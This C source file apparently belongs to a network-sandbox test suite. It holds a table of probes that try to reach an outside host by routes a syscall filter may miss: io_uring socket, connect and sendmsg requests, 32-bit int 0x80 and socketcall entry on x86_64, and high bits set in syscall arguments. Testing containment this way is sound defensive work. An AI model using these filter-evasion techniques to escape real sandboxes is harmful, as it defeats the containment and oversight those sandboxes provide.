/* Attacks by other ways into the kernel than the ordinary calls, and by several calls in one. */
#define _GNU_SOURCE
#include "network.h"

#include <errno.h>
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

/* A ring with room for one request. */
struct ring {
    int fd;
    struct io_uring_params parameters;
    char *submissions;
    struct io_uring_sqe *requests;
    char *completions;
};

static int set_up(struct ring *ring) {
    memset(ring, 0, sizeof *ring);
    ring->fd = (int) syscall(SYS_io_uring_setup, 1, &ring->parameters);
    if (ring->fd < 0) {
        return -1;
    }
    size_t size = ring->parameters.sq_off.array + sizeof(uint32_t);
    ring->submissions = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
    ring->requests = mmap(NULL, sizeof *ring->requests, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQES);
    size = ring->parameters.cq_off.cqes + 2 * sizeof(struct io_uring_cqe);
    ring->completions = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
    return ring->submissions == MAP_FAILED || ring->requests == MAP_FAILED || ring->completions == MAP_FAILED ? -1 : 0;
}

/* Makes the one request and gives its result. */
static int request(struct ring *ring) {
    uint32_t *tail = (uint32_t *) (ring->submissions + ring->parameters.sq_off.tail);
    uint32_t *array = (uint32_t *) (ring->submissions + ring->parameters.sq_off.array);
    struct io_uring_cqe *done = (struct io_uring_cqe *) (ring->completions + ring->parameters.cq_off.cqes);
    array[0] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        return -errno;
    }
    return done->res;
}

/* A socket is made by the ring too, so that nothing but the ring can refuse. */
static int connect_by_ring(void) {
    const struct place *to = at_outsider(OTHER_PORT_TCP);
    struct ring first, second;
    if (set_up(&first) < 0 || set_up(&second) < 0) {
        return refused("io_uring_setup");
    }
    *first.requests = (struct io_uring_sqe) {.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM};
    int fd = request(&first);
    *second.requests = (struct io_uring_sqe) {.opcode = IORING_OP_CONNECT, .fd = fd,
                                              .addr = (uint64_t) (uintptr_t) &to->address, .off = to->length};
    int result = fd < 0 ? fd : request(&second);
    int status = result < 0 ? REFUSED : reaches(OTHER_PORT_TCP);
    discard(fd);
    return status;
}

static int send_by_ring(void) {
    const struct place *to = at_outsider(OTHER_PORT_UDP);
    struct iovec data = {"x", 1};
    struct msghdr message = {.msg_name = (void *) &to->address, .msg_namelen = to->length, .msg_iov = &data,
                             .msg_iovlen = 1};
    struct ring first, second;
    if (set_up(&first) < 0 || set_up(&second) < 0) {
        return refused("io_uring_setup");
    }
    *first.requests = (struct io_uring_sqe) {.opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_DGRAM};
    int fd = request(&first);
    *second.requests = (struct io_uring_sqe) {.opcode = IORING_OP_SENDMSG, .fd = fd,
                                              .addr = (uint64_t) (uintptr_t) &message, .len = 1};
    int result = fd < 0 ? fd : request(&second);
    close(fd);
    return result < 0 ? REFUSED : reaches(OTHER_PORT_UDP);
}

#ifdef __x86_64__
/* 32-bit calls take pointers to the lowest memory only; that is where a static program has its own. */
static uint32_t words[6];
static union address address_below;

static long call_32_bit(long number, long first, long second, long third) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third)
                     : "memory", "r8", "r9", "r10", "r11");
    return result;
}

static uint32_t below(const void *pointer) {
    return (uint32_t) (uintptr_t) pointer;
}

/* The call of 32-bit programs that is all socket calls in one, told apart by its first argument. */
static int connect_by_socketcall(void) {
    enum { SOCKETCALL = 102, SOCKET = 1, CONNECT = 3 };
    const struct place *to = at_outsider(OTHER_PORT_TCP);
    memcpy(words, (uint32_t[]) {AF_INET, SOCK_STREAM, 0}, 3 * sizeof *words);
    int fd = (int) call_32_bit(SOCKETCALL, SOCKET, below(words), 0);
    if (fd < 0) {
        errno = -fd;
        return errno == ENOSYS ? impossible("32-bit calls") : refused("socketcall");
    }
    address_below = to->address;
    memcpy(words, (uint32_t[]) {(uint32_t) fd, below(&address_below), to->length}, 3 * sizeof *words);
    long result = call_32_bit(SOCKETCALL, CONNECT, below(words), 0);
    return result < 0 ? REFUSED : reaches(OTHER_PORT_TCP);
}

static int connect_by_32_bit_call(void) {
    enum { SOCKET = 359, CONNECT = 362 };
    const struct place *to = at_outsider(OTHER_PORT_TCP);
    int fd = (int) call_32_bit(SOCKET, AF_INET, SOCK_STREAM, 0);
    if (fd < 0) {
        errno = -fd;
        return errno == ENOSYS ? impossible("32-bit calls") : refused("socket");
    }
    address_below = to->address;
    return call_32_bit(CONNECT, fd, below(&address_below), to->length) < 0 ? REFUSED : reaches(OTHER_PORT_TCP);
}
#endif

/* The kernel looks at no more than the low half of a number. */
static int connect_with_high_bits(void) {
    const struct place *to = at_outsider(OTHER_PORT_TCP);
    long high = 1L << 32;
    int fd = (int) syscall(SYS_socket, high | AF_INET, high | SOCK_STREAM, high);
    if (fd < 0) {
        return refused("socket");
    }
    if (syscall(SYS_connect, high | fd, &to->address, high | to->length) < 0) {
        int status = refused("connect");
        close(fd);
        return status;
    }
    int status = reaches(OTHER_PORT_TCP);
    discard(fd);
    return status;
}

static int send_with_high_bits(void) {
    const struct place *to = at_outsider(OTHER_PORT_UDP);
    long high = 1L << 32;
    int fd = (int) syscall(SYS_socket, high | AF_INET, high | SOCK_DGRAM, high);
    if (fd < 0) {
        return refused("socket");
    }
    long sent = syscall(SYS_sendto, high | fd, "x", 1, high, &to->address, high | to->length);
    int status = sent < 0 ? refused("sendto") : reaches(OTHER_PORT_UDP);
    close(fd);
    return status;
}

static int open_fast_with_high_bits(void) {
    const struct place *to = at_outsider(OTHER_PORT_TCP);
    struct iovec data = {"x", 1};
    struct msghdr message = {.msg_name = (void *) &to->address, .msg_namelen = to->length, .msg_iov = &data,
                             .msg_iovlen = 1};
    long high = 1L << 32;
    int fd = socket_for(to, SOCK_STREAM);
    if (fd < 0) {
        return refused("socket");
    }
    long sent = syscall(SYS_sendmsg, high | fd, &message, high | MSG_FASTOPEN);
    int status = sent < 0 ? refused("sendmsg") : reaches(OTHER_PORT_TCP);
    discard(fd);
    return status;
}

const struct attack entry_attacks[] = {
    {"connect by io_uring", "nothing", NULL, NULL, connect_by_ring},
    {"send by io_uring", "nothing", NULL, NULL, send_by_ring},
#ifdef __x86_64__
    {"connect by 32-bit socketcall", "nothing", NULL, NULL, connect_by_socketcall},
    {"connect by 32-bit calls", "nothing", NULL, NULL, connect_by_32_bit_call},
#endif
    {"connect with high bits", "nothing", NULL, NULL, connect_with_high_bits},
    {"send with high bits", "nothing", NULL, NULL, send_with_high_bits},
    {"TCP fast open with high bits", "nothing", NULL, NULL, open_fast_with_high_bits},
    {NULL, NULL, NULL, NULL, NULL},
};
